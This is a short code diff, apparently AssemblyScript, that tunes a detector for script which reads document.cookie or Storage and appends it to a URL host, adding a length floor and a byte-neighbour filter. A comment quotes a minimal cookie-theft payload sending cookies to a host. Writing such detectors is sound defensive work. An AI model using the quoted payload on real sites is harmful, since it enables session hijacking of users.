@@ -13,6 +13,8 @@
 import { byteAt, matchesAt, isIdentByte, nameStart, skipBlanks, blanksBefore, isOneOf } from "../lib/bytes";
 import { indexOf2 } from "../lib/scan";
 
+// The shortest theft: `location='//a/'+document.cookie` less its target's name.
+const MIN_BYTES = 26;
 // How far before the join the host's `//` is looked for.
 const MAX_URL_BYTES = 256;
 // Calls a read may sit in before it is joined: encoders and stringifiers.
@@ -20,8 +22,12 @@ const MAX_URL_BYTES = 256;
 const WRAPPERS: StaticArray<string> = ["escape", "encodeuricomponent", "encodeuri", "btoa", "string", "stringify"];
 
 export function stealsStorage(p: usize, n: i32): bool {
+  if (n < MIN_BYTES) return false;
   // At each `k` (of cookie) and `S` (of Storage).
   for (let i = indexOf2(p, 0, n, 0x6B, 0x53); i < n; i = indexOf2(p, i + 1, n, 0x6B, 0x53)) {
+    // The bytes beside it first (`oki`, `lSt`/`nSt`): prose has a `k` or an `S` in every sentence.
+    let before = byteAt(p, n, i - 1), after = byteAt(p, n, i + 1);
+    if (load<u8>(p + <usize>i) == 0x6B ? before != 0x6F || after != 0x69 : after != 0x74 || (before != 0x6C && before != 0x6E)) continue;
     let s = readStart(p, n, i);
     if (s >= 0 && joinedOntoHost(p, n, s)) return true;
   }
